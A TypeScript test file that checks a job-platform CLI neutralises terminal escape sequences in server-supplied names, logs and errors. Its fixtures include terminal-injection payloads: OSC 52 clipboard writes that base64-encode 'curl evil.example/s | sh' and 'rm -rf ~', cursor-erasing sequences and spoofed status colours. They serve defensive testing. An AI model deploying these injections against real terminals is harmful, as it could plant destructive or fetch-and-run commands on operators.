// svc prints what the server sends (provider names anyone can register, log
// lines, phases and errors a provider's daemon writes, error messages) with its
// control characters made visible (src/cli/output.ts terminalSafe: C0 in caret
// notation, DEL and C1 as \u escapes): no escape sequence reaches the
// operator's terminal to erase or hide rows, move the cursor, retitle the
// window or write the clipboard (OSC 52). Table cells stay on one line; --json
// stays the exact JSON of the answer.
import { spawn } from "node:child_process";
import fs from "node:fs";
import path from "node:path";
import { Code, ConnectError } from "@connectrpc/connect";
import { afterEach, describe, expect, it, vi } from "vitest";
import { reportError, terminalSafe } from "../../src/cli/output.js";
import { makeProvider, makeRenter } from "../helpers/fixtures.js";
import { client, uniqueEmail } from "../helpers/http.js";
import { ADMIN_TOKEN, useTestServer } from "../helpers/server.js";
import { takeProvidersOffline } from "../helpers/isolation.js";
import { tempDir } from "../daemon/helpers.js";
import { runSvc, SVC, type Run } from "./run-svc.js";

const srv = useTestServer({ SVC_JOB_SWEEP_MS: "60000" });
const api = client(srv);

/** What a terminal acts on, tab and newline aside: C0 controls, DEL and C1 controls. */
const RAW_CONTROL = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/;

// Erases the row it is on and moves up over the one before (hides itself), sets the window title,
// writes the admin's clipboard (OSC 52: "curl evil.example/s | sh"), with a C1 CSI and a carriage return.
const EVIL = "Rig\u001b[2K\u001b[1A\u001b]0;owned\u0007\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUvcyB8IHNo\u0007\u009b2J\rX";
const EVIL_SHOWN = "Rig^[[2K^[[1A^[]0;owned^G^[]52;c;Y3VybCBldmlsLmV4YW1wbGUvcyB8IHNo^G\\u009b2J^MX";

const svc = (args: string[], env: Record<string, string>): Promise<Run> => runSvc(args, { home: tempDir("svc-safe"), env: { NO_COLOR: "", ...env } });

/** Starts svc with a pseudo-terminal as its stdout (script(1), as svc.test.ts draws the progress bar). */
function svcOnTerminal(args: string[], env: Record<string, string>): { stdout(): string; done: Promise<Run> } {
  const home = tempDir("svc-safe-tty");
  const cmd = [process.execPath, SVC, ...args].map((a) => JSON.stringify(a)).join(" ");
  const e: NodeJS.ProcessEnv = { ...process.env, SVC_CONFIG_DIR: path.join(home, "config"), TERM: "xterm", COLUMNS: "100", ...env };
  delete e.NO_COLOR;
  for (const k of ["SVC_ADMIN_TOKEN", "SVC_PROFILE", "SVC_ROLE"]) if (!env[k]) delete e[k];
  const child = spawn("script", ["-qfec", cmd, "/dev/null"], { env: e, cwd: home, stdio: ["ignore", "pipe", "pipe"] });
  let stdout = "";
  let stderr = "";
  child.stdout.on("data", (d) => (stdout += d));
  child.stderr.on("data", (d) => (stderr += d));
  return { stdout: () => stdout, done: new Promise((resolve) => child.on("close", (code) => resolve({ code, stdout, stderr }))) };
}

/** Waits until `f` holds (a started svc printed something). */
async function until(f: () => boolean, what: string, ms = 60_000): Promise<void> {
  const end = Date.now() + ms;
  while (!f()) {
    if (Date.now() > end) throw new Error(`timed out waiting for ${what}`);
    await new Promise((r) => setTimeout(r, 50));
  }
}

/** A renter's job, assigned to a provider of its own and running. */
async function runningJob(job: Record<string, unknown>, gpuModel?: string) {
  await takeProvidersOffline(srv);
  const renter = await makeRenter(srv, 10_000);
  const provider = await makeProvider(srv, gpuModel === undefined ? {} : { gpuModel });
  const submit = await api.post("/api/jobs/submit", job, renter.headers);
  expect(submit.status, submit.text).toBe(201);
  const jobId: string = submit.body.job.job_id;
  expect((await api.get(`/api/providers/${provider.key}/jobs`)).body.job.job_id).toBe(jobId);
  return { renter, provider, jobId, env: { SVC_URL: srv.url, SVC_KEY: renter.key } };
}

/** The sequences of EVIL and of the phase and error below, any one of which would reach the terminal raw. */
const EVIL_SEQUENCES = ["\u001b[2K\u001b[1A", "\u001b]0;", "\u001b]52;", "\u0007", "\u009b", "\u001b[8m", "\r"];

describe("terminalSafe", () => {
  it("shows C0 controls in caret notation, DEL and C1 controls as \\u escapes; keeps tab and newline unless on one line; leaves other text alone", () => {
    expect(terminalSafe(EVIL)).toBe(EVIL_SHOWN);
    expect(terminalSafe("\u0000\u0001\u001f\u007f\u0080\u009f")).toBe("^@^A^_\\u007f\\u0080\\u009f");
    // JSON text stays the same JSON: JSON.stringify escapes C0 itself, and DEL and C1 are given JSON's escapes.
    const value = { s: "a\u001b[2K\u007f\u009b\u0085z\n" };
    expect(JSON.parse(terminalSafe(JSON.stringify(value, null, 2)))).toEqual(value);
    expect(terminalSafe("a\tb\nc")).toBe("a\tb\nc");
    expect(terminalSafe("a\tb\nc", { singleLine: true })).toBe("a^Ib^Jc");
    expect(terminalSafe("Ünïcode 中文 ^[ – \u00a0\u2028 emoji \u{1f600}")).toBe("Ünïcode 中文 ^[ – \u00a0\u2028 emoji \u{1f600}");
  });
});

describe("reportError", () => {
  afterEach(() => vi.restoreAllMocks());

  it("prints a server's error message terminalSafe", () => {
    let written = "";
    vi.spyOn(process.stderr, "write").mockImplementation((s) => ((written += String(s)), true));
    const code = reportError(new ConnectError(`job "x\u001b]52;c;aGk=\u0007" not found`, Code.NotFound));
    expect(code).toBe(5);
    expect(written).toBe('svc: job "x^[]52;c;aGk=^G" not found (gRPC not_found)\n');
  });
});

describe("svc", { timeout: 180_000 }, () => {
  it("admin providers: a name with escape sequences made visible, on its own row; --json keeps it exact", async () => {
    const name = `${EVIL}\nsecond line`;
    const reg = await api.post("/api/providers/register", { name, email: uniqueEmail("esc"), gpu_model: "RTX 4090", os: "linux" });
    expect(reg.status, reg.text).toBe(200);
    const env = { SVC_URL: srv.url, SVC_ADMIN_TOKEN: ADMIN_TOKEN };

    const table = await svc(["admin", "providers"], env);
    expect(table.code, table.stderr).toBe(0);
    expect(table.stdout).not.toMatch(RAW_CONTROL);
    const row = table.stdout.split("\n").find((l) => l.startsWith(`${reg.body.provider_id} `));
    expect(row).toContain(`${EVIL_SHOWN}^Jsecond line`);
    expect(row).toMatch(/pending/); // the rest of the row follows on the same line
    expect(table.stdout.split("\n").filter((l) => l.includes("second line"))).toEqual([row]);

    const json = await svc(["--json", "admin", "providers"], env);
    expect(json.code, json.stderr).toBe(0);
    expect(json.stdout).not.toMatch(RAW_CONTROL);
    const listed = JSON.parse(json.stdout).providers.find((p: { id: number }) => p.id === reg.body.provider_id);
    expect(listed.name).toBe(name);
  });

  it("jobs logs (-f) and jobs watch: a provider's log lines, phase and error made visible, --json exact", async () => {
    const { provider, jobId, env } = await runningJob({ job_type: "benchmark", duration_minutes: 3 });
    const phase = "load\u001b[8mhidden\u001b]0;title\u0007";
    const lines = [`step 1 ${EVIL}`, "tab\tand\nnewline kept"];
    const error = `out of memory\u001b]52;c;cm0gLXJmIH4=\u0007\u001b[2K`;

    // Live on a terminal: the progress bar with its phase, log lines printed above it, the result.
    const tty = svcOnTerminal(["jobs", "watch", jobId], env);
    await until(() => tty.stdout().includes("running"), "the watch's first line");
    expect((await api.post(`/api/jobs/${jobId}/progress`, { api_key: provider.key, progress_pct: 40, phase })).status).toBe(200);
    await until(() => tty.stdout().includes("40%"), "the bar at 40%");
    expect((await api.post(`/api/jobs/${jobId}/logs`, { api_key: provider.key, logs: lines })).status).toBe(200);
    await until(() => tty.stdout().includes("newline kept"), "the log lines");
    const done = await api.post("/api/providers/job-result", { api_key: provider.key, job_id: jobId, success: false, error, end_reason: "runtime_error", fault: "renter" });
    expect(done.status, done.text).toBe(200);
    const seen = await tty.done;
    expect(seen.code, seen.stdout + seen.stderr).toBe(1);
    expect(seen.stdout).toMatch(/\u2588/); // the bar was drawn
    for (const seq of EVIL_SEQUENCES) expect(seen.stdout.replace(/\r\n/g, "\n")).not.toContain(seq);
    expect(seen.stdout).toContain("load^[[8mhidden^[]0;title^G");
    expect(seen.stdout).toContain(`step 1 ${EVIL_SHOWN}`);
    expect(seen.stdout).toContain("out of memory^[]52;c;cm0gLXJmIH4=^G^[[2K");

    const shownLines = [`step 1 ${EVIL_SHOWN}`, "tab\tand\nnewline kept"];
    for (const args of [["jobs", "logs", "-f", jobId], ["jobs", "logs", jobId]]) {
      const run = await svc(args, env);
      expect(run.stdout, `${args.join(" ")}: ${run.stderr}`).not.toMatch(RAW_CONTROL);
      for (const l of shownLines) expect(run.stdout).toContain(l);
    }

    const watch = await svc(["jobs", "watch", jobId], env);
    expect(watch.code, watch.stderr).toBe(1);
    expect(watch.stdout).not.toMatch(RAW_CONTROL);
    expect(watch.stdout).toContain("load^[[8mhidden^[]0;title^G");
    expect(watch.stdout).toContain("result: failed (runtime_error, renter fault): out of memory^[]52;c;cm0gLXJmIH4=^G^[[2K");


    const json = await svc(["--json", "jobs", "logs", "-f", jobId], env);
    expect(json.stdout).not.toMatch(RAW_CONTROL);
    const events = json.stdout.trim().split("\n").map((l) => JSON.parse(l));
    expect(events.filter((e) => e.log).map((e) => e.log.message)).toEqual(lines);
    expect(events.find((e) => e.snapshot).snapshot.job.progress_phase).toBe(phase);
    expect(events.at(-1).outcome.error).toBe(error);
  });

  it("jobs output: a text result made visible on a terminal, its exact text into a pipe", async () => {
    const { provider, jobId, env } = await runningJob({ job_type: "llm-inference", params: { prompt: "hi", max_tokens: 32 } });
    const response = `hello ${EVIL}\tend`;
    const done = await api.post("/api/providers/job-result", { api_key: provider.key, job_id: jobId, success: true, result: { response } });
    expect(done.status, done.text).toBe(200);

    const piped = await svc(["jobs", "output", jobId], env);
    expect(piped.code, piped.stderr).toBe(0);
    expect(piped.stdout).toBe(`${response}\n`);
    const tty = await svcOnTerminal(["jobs", "output", jobId], env).done;
    expect(tty.code, tty.stdout + tty.stderr).toBe(0);
    for (const seq of EVIL_SEQUENCES) expect(tty.stdout.replace(/\r\n/g, "\n")).not.toContain(seq);
    expect(tty.stdout).toContain(`hello ${EVIL_SHOWN}\tend`);
  });

  it("the colour codes svc writes itself are made visible in a provider's text too (jobs logs, a failed job's output)", async () => {
    // Dims the real line and prints a fake green one: the very sequences svc's own colours use.
    const fake = "\u001b[2mreal error\u001b[0m \u001b[32mverified: completed\u001b[0m";
    const shown = "^[[2mreal error^[[0m ^[[32mverified: completed^[[0m";
    const { provider, jobId, env } = await runningJob({ job_type: "benchmark", duration_minutes: 3 });
    expect((await api.post(`/api/jobs/${jobId}/logs`, { api_key: provider.key, logs: [fake] })).status).toBe(200);
    const logs = await svc(["jobs", "logs", jobId], env);
    expect(logs.stdout, logs.stderr).not.toMatch(RAW_CONTROL);
    expect(logs.stdout).toContain(shown);
    const failed = await api.post("/api/providers/job-result", { api_key: provider.key, job_id: jobId, success: false, error: fake, end_reason: "runtime_error", fault: "renter" });
    expect(failed.status, failed.text).toBe(200);
    const output = await svc(["jobs", "output", jobId], env);
    expect(output.stdout, output.stderr).not.toMatch(RAW_CONTROL);
    expect(output.stdout).toContain(shown);
  });

  it("receipt get: a provider's GPU model with C1 controls (CSI, OSC 52) printed as JSON escapes; --out keeps the exact bytes", async () => {
    const gpuModel = "RTX 4090\u009b2J\u009d52;c;Y3VybCBldmlsLmV4YW1wbGUvcyB8IHNo\u009c";
    const { provider, jobId, env } = await runningJob({ job_type: "benchmark", duration_minutes: 2 }, gpuModel);
    const done = await api.post("/api/providers/job-result", { api_key: provider.key, job_id: jobId, success: true, result: { scores: { gflops: 1 } } });
    expect(done.status, done.text).toBe(200);
    const printed = await svc(["receipt", "get", jobId], env);
    expect(printed.code, printed.stderr).toBe(0);
    expect(printed.stdout).not.toMatch(RAW_CONTROL);
    // The same JSON value: the model as the provider registered it.
    expect(JSON.parse(printed.stdout).receipt.attempts[0].gpu.model).toBe(gpuModel);
    const file = path.join(tempDir("svc-receipt"), "receipt.json");
    expect((await svc(["receipt", "get", jobId, "--out", file], env)).code).toBe(0);
    expect(fs.readFileSync(file, "utf8")).toContain(gpuModel);
  });
});
